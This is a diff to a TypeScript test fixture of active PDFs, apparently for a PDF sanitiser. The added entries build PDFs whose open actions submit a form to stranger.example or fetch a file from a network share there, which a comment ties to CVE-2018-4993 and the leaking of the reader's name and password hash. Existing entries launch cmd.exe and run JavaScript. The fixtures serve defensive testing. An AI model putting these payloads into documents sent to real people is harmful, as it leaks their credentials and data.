@@ -201,6 +201,19 @@ export const activePdfs: Readonly<Record<string, Buffer>> = {
     pages: words,
     catalogue: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>',
   }),
+  'a form that is sent on opening': textPdf({
+    pages: words,
+    catalogue: '/OpenAction << /S /SubmitForm /F (https://stranger.example/form) >>',
+  }),
+  // Windows logs in at the share, and so gives it the reader's name and the hash of the password (CVE-2018-4993).
+  'a file on a share, opened with the page': textPdf({
+    pages: words,
+    page: '/AA << /O << /S /GoToR /D [0 /Fit] /F (\\\\\\\\stranger.example\\\\cv) >> >>',
+  }),
+  'the same as a file in a file': textPdf({
+    pages: words,
+    page: '/AA << /O << /S /GoToE /D [0 /Fit] /F (\\\\\\\\stranger.example\\\\cv) >> >>',
+  }),
   'a rendition that runs a script': textPdf({
     pages: words,
     page: '/AA << /O << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >> >>',
